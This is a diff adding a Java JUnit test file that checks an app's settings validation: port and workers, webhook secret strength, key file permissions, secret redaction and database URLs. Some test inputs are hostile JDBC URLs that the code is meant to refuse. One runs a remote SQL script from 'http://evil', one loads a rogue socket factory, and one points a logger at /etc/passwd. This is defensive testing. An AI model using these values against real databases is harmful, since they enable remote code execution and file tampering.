@@ -1,0 +1,179 @@
+package dev.fixwright;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+import static org.assertj.core.api.Assertions.catchThrowableOfType;
+
+import dev.fixwright.database.DatabaseAddress;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.nio.file.attribute.PosixFilePermissions;
+import java.security.KeyPairGenerator;
+import java.util.Base64;
+import java.util.HashMap;
+import java.util.List;
+import java.util.Map;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+final class SettingsTest {
+    private final Map<String, String> environment = new HashMap<>();
+    private Path key;
+
+    @BeforeEach
+    void completeSettings(@TempDir Path directory) throws Exception {
+        key = Files.writeString(directory.resolve("key.pem"), pem());
+        Files.setPosixFilePermissions(key, PosixFilePermissions.fromString("rw-------"));
+        environment.put("FIXWRIGHT_APP_ID", "123456");
+        environment.put("FIXWRIGHT_PRIVATE_KEY_FILE", key.toString());
+        environment.put("FIXWRIGHT_WEBHOOK_SECRET", "0123456789abcdef0123456789abcdef");
+    }
+
+    @Test
+    void completeSettingsAreTaken() {
+        Settings settings = Settings.of(environment, Map.of());
+
+        assertThat(settings.port()).isEqualTo(8080);
+        assertThat(settings.database()).isEqualTo(new DatabaseAddress.Directory(Path.of("data")));
+        assertThat(settings.app().orElseThrow().gitHub().issuer()).isEqualTo("123456");
+        assertThat(settings.app().orElseThrow().webhookSecrets()).hasSize(1);
+    }
+
+    @Test
+    void flagWinsOverTheEnvironment() {
+        environment.put("FIXWRIGHT_PORT", "1");
+
+        assertThat(Settings.of(environment, Map.of("FIXWRIGHT_PORT", "9000")).port())
+                .isEqualTo(9000);
+    }
+
+    @Test
+    void withoutAnAppTheServerIsToBeSetUp() {
+        assertThat(Settings.of(Map.of(), Map.of()).app()).isEmpty();
+    }
+
+    @Test
+    void everyWrongSettingIsNamedAtOnce() {
+        environment.put("FIXWRIGHT_PORT", "http");
+        environment.put("FIXWRIGHT_WORKERS", "0");
+        environment.put("FIXWRIGHT_DATABASE_URL", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'");
+        environment.put("FIXWRIGHT_PRIVATE_KEY_FILE", "/nowhere/key.pem");
+        environment.put("FIXWRIGHT_WEBHOOK_SECRET", "development");
+        environment.put("FIXWRIGHT_GITHUB_URL", "http://github.example.com");
+
+        assertThat(problems())
+                .hasSize(6)
+                .anySatisfy(problem -> assertThat(problem).startsWith("FIXWRIGHT_PORT"))
+                .anySatisfy(problem -> assertThat(problem).startsWith("FIXWRIGHT_WORKERS"))
+                .anySatisfy(problem -> assertThat(problem).startsWith("FIXWRIGHT_DATABASE_URL"))
+                .anySatisfy(problem -> assertThat(problem).startsWith("FIXWRIGHT_PRIVATE_KEY_FILE"))
+                .anySatisfy(problem -> assertThat(problem).startsWith("FIXWRIGHT_WEBHOOK_SECRET"))
+                .anySatisfy(problem -> assertThat(problem).startsWith("FIXWRIGHT_GITHUB_URL"));
+    }
+
+    @Test
+    void appWithoutAWebhookSecretIsRefused() {
+        environment.remove("FIXWRIGHT_WEBHOOK_SECRET");
+
+        assertThat(problems()).singleElement().asString().contains("anybody could send deliveries");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "development",
+                "secret",
+                "changeme",
+                "It's a Secret to Everybody",
+                "short-but-random-9f8a7c6b5",
+                "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
+                "abababababababababababababababababababab"
+            })
+    void guessableWebhookSecretIsRefusedAndNotRepeated(String secret) {
+        environment.put("FIXWRIGHT_WEBHOOK_SECRET", secret);
+
+        assertThat(problems()).singleElement().asString().contains("openssl rand").doesNotContain(" " + secret + " ");
+    }
+
+    @Test
+    void secretMayStandInAFile(@TempDir Path directory) throws Exception {
+        Path file = Files.writeString(directory.resolve("secret"), "fedcba9876543210fedcba9876543210\n");
+        environment.remove("FIXWRIGHT_WEBHOOK_SECRET");
+        environment.put("FIXWRIGHT_WEBHOOK_SECRET_FILE", file.toString());
+
+        assertThat(Settings.of(environment, Map.of()).app().orElseThrow().webhookSecrets().get(0).reveal())
+                .isEqualTo("fedcba9876543210fedcba9876543210");
+    }
+
+    @Test
+    void previousSecretHoldsBesideTheNewOne() {
+        environment.put("FIXWRIGHT_WEBHOOK_SECRET_PREVIOUS", "fedcba9876543210fedcba9876543210");
+
+        assertThat(Settings.of(environment, Map.of()).app().orElseThrow().webhookSecrets())
+                .hasSize(2);
+    }
+
+    @Test
+    void keyThatEverybodyMayReadIsRefused() throws Exception {
+        Files.setPosixFilePermissions(key, PosixFilePermissions.fromString("rw-r--r--"));
+
+        assertThat(problems()).singleElement().asString().contains("chmod 600");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "jdbc:h2:file:/data/x",
+                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'x'",
+                "jdbc:postgresql://db/x?socketFactory=org.example.Evil",
+                "jdbc:postgresql://db/x?sslmode=require&loggerFile=/etc/passwd",
+                "jdbc:postgresql://db/x?user=a&password=b",
+                "jdbc:mysql://db/x"
+            })
+    void databaseAddressThatCouldRunSomethingIsRefused(String url) {
+        environment.put("FIXWRIGHT_DATABASE_URL", url);
+
+        assertThat(problems()).singleElement().asString().startsWith("FIXWRIGHT_DATABASE_URL");
+    }
+
+    @Test
+    void postgreSqlIsTakenWithItsUserAndPassword() {
+        environment.put("FIXWRIGHT_DATABASE_URL", "jdbc:postgresql://db/fixwright?sslmode=require");
+        environment.put("FIXWRIGHT_DATABASE_USER", "bot");
+        environment.put("FIXWRIGHT_DATABASE_PASSWORD", "hunter2");
+
+        assertThat(Settings.of(environment, Map.of()).database())
+                .hasToString("jdbc:postgresql://db/fixwright?sslmode=require as bot");
+    }
+
+    @Test
+    void settingsNeverPrintTheirSecrets() {
+        environment.put("FIXWRIGHT_DATABASE_URL", "jdbc:postgresql://db/fixwright");
+        environment.put("FIXWRIGHT_DATABASE_PASSWORD", "hunter2");
+
+        assertThat(Settings.of(environment, Map.of()).toString()).doesNotContain("hunter2", "0123456789abcdef", "PRIVATE");
+    }
+
+    @Test
+    void halfAnAppIsRefused() {
+        environment.remove("FIXWRIGHT_APP_ID");
+
+        assertThatThrownBy(() -> Settings.of(environment, Map.of()))
+                .isInstanceOf(SettingsException.class)
+                .hasMessageContaining("FIXWRIGHT_APP_ID");
+    }
+
+    private List<String> problems() {
+        return catchThrowableOfType(SettingsException.class, () -> Settings.of(environment, Map.of()))
+                .problems();
+    }
+
+    private static String pem() throws Exception {
+        byte[] encoded = KeyPairGenerator.getInstance("RSA").generateKeyPair().getPrivate().getEncoded();
+        return "-----BEGIN PRIVATE KEY-----\n" + Base64.getMimeEncoder().encodeToString(encoded)
+                + "\n-----END PRIVATE KEY-----\n";
+    }
+}
